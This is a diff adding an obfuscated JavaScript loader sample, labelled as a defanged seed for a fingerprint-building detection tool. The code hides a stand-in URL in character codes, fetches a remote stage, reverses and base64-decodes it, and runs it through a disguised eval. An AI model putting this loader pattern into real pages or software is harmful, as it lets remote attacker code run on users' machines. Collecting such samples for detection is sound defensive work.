@@ -0,0 +1,16 @@
+// label: Obfuscated loader (char-code string -> atob -> eval of a remote stage)
+// Defanged seed sample for tools/build-fingerprints.js; the stage host is a reserved .invalid name.
+(function () {
+  var k = [104, 116, 116, 112, 115, 58, 47, 47, 115, 116, 97, 103, 101, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100, 47, 106, 113, 46, 106, 115];
+  var u = '';
+  for (var i = 0; i < k.length; i++) u += String.fromCharCode(k[i]);
+  var x = new XMLHttpRequest();
+  x.open('GET', u + '?r=' + Math.random().toString(36).slice(2), true);
+  x.onreadystatechange = function () {
+    if (x.readyState === 4 && x.status === 200) {
+      var s = x.responseText.split('').reverse().join('');
+      window['ev' + 'al'](atob(s));
+    }
+  };
+  x.send();
+})();